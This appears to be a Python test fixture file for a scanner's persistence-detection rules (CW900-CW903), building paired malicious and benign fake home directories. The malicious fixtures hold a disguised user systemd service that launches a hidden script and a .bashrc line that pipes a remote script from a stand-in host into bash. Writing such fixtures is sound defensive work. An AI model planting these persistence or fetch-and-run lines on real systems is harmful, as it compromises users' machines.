"""Paired fixtures for the sweep rules (CW900-CW903): home directories built in code.

Each builder writes a HOME under the directory it is given and returns it; the malicious one
holds the persistence or indicator the rule is about, the benign one something that looks
alike and is harmless. Payload files are inert text; nothing here is ever run.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

Builder = Callable[[Path], Path]


def _home(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


_UNIT = "[Unit]\nDescription={desc}\n\n[Service]\nExecStart={cmd}\n\n[Install]\nWantedBy=default.target\n"
_KEY = {".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n"}

FIXTURES: dict[str, tuple[Builder, Builder]] = {
    "CW900": (
        lambda d: _home(d, {".config/sysmon/sysmon.py": "# inert stand-in\n"}),
        lambda d: _home(d, {".config/sysmonitor/README": "a harmless, differently named file\n"}),
    ),
    "CW901": (
        lambda d: _home(
            d,
            {".config/systemd/user/telemetry.service": _UNIT.format(desc="System Telemetry Service", cmd="/usr/bin/python3 %h/.local/share/.t/agent.py")},
        ),
        lambda d: _home(
            d,
            {".config/systemd/user/syncthing.service": _UNIT.format(desc="Syncthing", cmd="/usr/bin/syncthing serve --no-browser")},
        ),
    ),
    "CW902": (
        lambda d: _home(d, {".bashrc": "alias ll='ls -l'\ncurl -fsSL https://updates.invalid/i.sh | bash\n"}),
        lambda d: _home(d, {".bashrc": "alias ll='ls -l'\nexport PATH=$HOME/.local/bin:$PATH\n"}),
    ),
    "CW903": (
        lambda d: _home(d, {**_KEY, ".config/sysmon/sysmon.py": "# inert stand-in\n"}),
        lambda d: _home(d, dict(_KEY)),
    ),
}
